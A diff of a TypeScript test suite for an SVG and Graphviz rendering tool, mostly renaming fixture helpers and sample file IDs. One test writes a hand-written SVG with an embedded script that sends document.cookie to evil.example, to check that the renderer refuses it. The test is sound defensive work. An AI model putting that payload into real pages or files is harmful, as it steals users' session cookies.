@@ -19,7 +19,7 @@ import { join } from 'node:path';
 import { build } from 'esbuild';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { readRenderIndex, renderMatplotlib, renderVault, renderVisual, sanitizeSvg, screenPythonScript } from '../../src/visuals/index.js';
-import { PROJECT_ROOT, vaultSampleDir } from '../helpers/fixtures.js';
+import { PROJECT_ROOT, fixtureVaultDir } from '../helpers/fixtures.js';
 import { runCli } from '../helpers/pipeline.js';
 
 const scratch = mkdtempSync(join(tmpdir(), 'vl-visuals-ev2-'));
@@ -28,14 +28,14 @@ afterAll(() => rmSync(scratch, { recursive: true, force: true }));
 /** A sample vault copy: its questions and visuals. */
 function sampleVault(name: string): string {
   const vault = join(scratch, name);
-  cpSync(join(vaultSampleDir(), 'questions'), join(vault, 'questions'), { recursive: true });
-  cpSync(join(vaultSampleDir(), 'visuals'), join(vault, 'visuals'), { recursive: true });
+  cpSync(join(fixtureVaultDir(), 'questions'), join(vault, 'questions'), { recursive: true });
+  cpSync(join(fixtureVaultDir(), 'visuals'), join(vault, 'visuals'), { recursive: true });
   return vault;
 }
 
 /** The sample's dot sources, relative to its visuals/ folder. */
 function sampleDots(): string[] {
-  const root = join(vaultSampleDir(), 'visuals');
+  const root = join(fixtureVaultDir(), 'visuals');
   return readdirSync(root, { recursive: true, encoding: 'utf8' })
     .filter((f) => f.endsWith('.dot'))
     .sort();
@@ -89,7 +89,7 @@ describe('no system Graphviz needed', () => {
       // Bundled CommonJS dependencies call require(); give the ESM bundle one.
       banner: { js: "import { createRequire as __vlRequire } from 'node:module'; const require = __vlRequire(import.meta.url);" },
     });
-    const files = dots.map((d) => join(vaultSampleDir(), 'visuals', d));
+    const files = dots.map((d) => join(fixtureVaultDir(), 'visuals', d));
     // Only PATH (an empty folder) in the environment; Node's permission model: reading allowed, no child processes, no workers.
     const permission = process.allowedNodeEnvironmentFlags.has('--permission') ? '--permission' : '--experimental-permission';
     const r = await run(process.execPath, [permission, '--allow-fs-read=*', bundle, JSON.stringify(files)], { PATH: emptyBin });
@@ -112,7 +112,7 @@ describe('no system Graphviz needed', () => {
   it('vault-loop render renders the sample dot visuals with PATH set to an empty folder', async () => {
     const vault = sampleVault('empty-path');
     const emptyBin = mkdtempSync(join(scratch, 'empty-bin-'));
-    const svgs = ['visuals/cloud/cloud-2846.svg', 'visuals/mobile/mobile-1871.svg'];
+    const svgs = ['visuals/cloud/cloud-0104.svg', 'visuals/mobile/mobile-0304.svg'];
     for (const s of svgs) rmSync(join(vault, s), { force: true });
     const r = await runCli(['render', '--vault', vault, '--force'], { PATH: emptyBin });
     expect(r.code, r.out).toBe(0);
@@ -128,12 +128,12 @@ describe('no system Graphviz needed', () => {
 
 describe('hand-written SVG is accepted as is, after checks', () => {
   let vault: string;
-  const SVG = 'visuals/mobile/mobile-1871.svg';
+  const SVG = 'visuals/mobile/mobile-0304.svg';
   const at = new Date(Date.UTC(2001, 0, 1));
   beforeEach(() => {
     vault = sampleVault(`hand-${Date.now()}-${Math.random().toString(36).slice(2)}`);
-    // No source beside it: mobile-1871.svg is hand-written.
-    rmSync(join(vault, 'visuals/mobile/mobile-1871.dot'));
+    // No source beside it: mobile-0304.svg is hand-written.
+    rmSync(join(vault, 'visuals/mobile/mobile-0304.dot'));
   });
 
   it('renderVault (also forced) checks a hand-written SVG and leaves its bytes and mtime untouched, though the normalizer would change them', async () => {
@@ -148,8 +148,8 @@ describe('hand-written SVG is accepted as is, after checks', () => {
     expect(normalized.svg).not.toBe(text);
 
     for (const force of [false, true]) {
-      const r = await renderVault({ vault, id: 'mobile-1871', force });
-      expect(r.items).toEqual([expect.objectContaining({ id: 'mobile-1871', kind: 'svg', status: 'skipped', reason: 'hand-written svg checked', source: SVG, output: SVG })]);
+      const r = await renderVault({ vault, id: 'mobile-0304', force });
+      expect(r.items).toEqual([expect.objectContaining({ id: 'mobile-0304', kind: 'svg', status: 'skipped', reason: 'hand-written svg checked', source: SVG, output: SVG })]);
       expect(readFileSync(join(vault, SVG), 'utf8')).toBe(text);
       expect(statSync(join(vault, SVG)).mtime.toISOString()).toBe(at.toISOString());
     }
@@ -165,9 +165,9 @@ describe('hand-written SVG is accepted as is, after checks', () => {
   it('a hand-written SVG with a <script> element is refused with the reason and left as it was (not "cleaned")', async () => {
     const text = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 680 460"><script>fetch("https://evil.example/?c=" + document.cookie)</script><rect width="10" height="10" fill="#cfe2f3"/></svg>\n';
     writeFileSync(join(vault, SVG), text);
-    const r = await renderVault({ vault, id: 'mobile-1871', force: true });
+    const r = await renderVault({ vault, id: 'mobile-0304', force: true });
     expect(r.errors).toBe(1);
-    expect(r.items).toEqual([expect.objectContaining({ id: 'mobile-1871', kind: 'svg', status: 'error', reason: 'unsafe or invalid SVG: <script>: scripts are not allowed' })]);
+    expect(r.items).toEqual([expect.objectContaining({ id: 'mobile-0304', kind: 'svg', status: 'error', reason: 'unsafe or invalid SVG: <script>: scripts are not allowed' })]);
     expect(readFileSync(join(vault, SVG), 'utf8')).toBe(text);
   });
 });
@@ -232,10 +232,10 @@ describe('more than 16 nodes in a generated dot', () => {
 
   it('the render command reports the warning for a 17-node dot source in a vault, and still renders it', async () => {
     const vault = sampleVault('seventeen');
-    writeFileSync(join(vault, 'visuals/cloud/cloud-2846.dot'), digraph(17));
-    const r = await renderVault({ vault, id: 'cloud-2846', force: true });
-    expect(r.items).toEqual([expect.objectContaining({ id: 'cloud-2846', status: 'rendered', warnings: expect.arrayContaining([WARNING]) })]);
-    expect(existsSync(join(vault, 'visuals/cloud/cloud-2846.svg'))).toBe(true);
+    writeFileSync(join(vault, 'visuals/cloud/cloud-0104.dot'), digraph(17));
+    const r = await renderVault({ vault, id: 'cloud-0104', force: true });
+    expect(r.items).toEqual([expect.objectContaining({ id: 'cloud-0104', status: 'rendered', warnings: expect.arrayContaining([WARNING]) })]);
+    expect(existsSync(join(vault, 'visuals/cloud/cloud-0104.svg'))).toBe(true);
   });
 });
 
